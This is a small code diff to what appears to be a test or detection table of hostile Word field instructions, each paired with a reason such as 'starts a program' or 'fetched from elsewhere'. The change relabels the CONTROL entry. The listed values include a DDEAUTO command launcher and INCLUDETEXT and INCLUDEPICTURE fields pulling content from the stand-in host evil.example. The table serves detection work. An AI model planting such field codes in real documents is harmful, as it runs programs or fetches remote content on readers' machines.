@@ -17,7 +17,7 @@ const instructions: [string, Hostile['because']][] = [
   ['"DDEAUTO" cmd x', 'starts a program'],
   ['DATABASE \\d "x" \\c "DSN=x" \\s "SELECT 1"', 'starts a program'],
   ['PRINT "27 x"', 'starts a program'],
-  ['CONTROL x.y.1', 'starts a program'],
+  ['CONTROL x.y.1', 'controls'],
   ['INCLUDETEXT "http://evil.example/x"', 'fetched from elsewhere'],
   ['INCLUDETEXT "\\\\\\\\evil.example\\\\x"', 'fetched from elsewhere'],
   ['INCLUDEPICTURE \\d "https://evil.example/x.png"', 'fetched from elsewhere'],
